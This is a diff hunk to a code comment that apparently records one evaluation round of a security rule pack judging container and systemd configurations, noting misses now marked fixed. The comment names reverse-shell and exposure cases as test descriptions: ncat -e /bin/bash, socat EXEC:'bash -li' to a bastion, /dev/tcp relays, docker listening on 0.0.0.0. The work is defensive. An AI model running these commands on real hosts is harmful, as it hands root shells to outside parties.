@@ -6,7 +6,7 @@
 // to containerd, a docker.service.d ExecStart= with -H tcp://0.0.0.0, BindReadOnlyPaths= of the containerd directory; hostPaths
 // spelled with `..` and doubled slashes. Secure neighbours: ssh -L and ssh_config LocalForward to a database, systemd-socket-proxyd
 // on loopback to a database, a loopback socat EXEC health endpoint, a docker.service.d drop-in setting LimitNOFILE.
-// Misses: 8 insecure, 1 secure. Insecure accepted: root shells handed beyond the node (tmate -F, upterm host,
+// Misses: 8 insecure, 1 secure (all fixed in round 59). Insecure accepted: root shells handed beyond the node (tmate -F, upterm host,
 // socat EXEC:'bash -li' TCP:bastion, ncat -e /bin/bash bastion, a Python socket/pty reverse shell); a bash `exec 3<>/dev/tcp` fd
 // relayed by nc to miniserve / on loopback; zrok share public and pagekite.py (tunnel services not in TUNNEL_SERVICES) before
 // miniserve /. Secure refused: /root/.ssh/config with only a loopback LocalForward (a write the pack cannot judge).
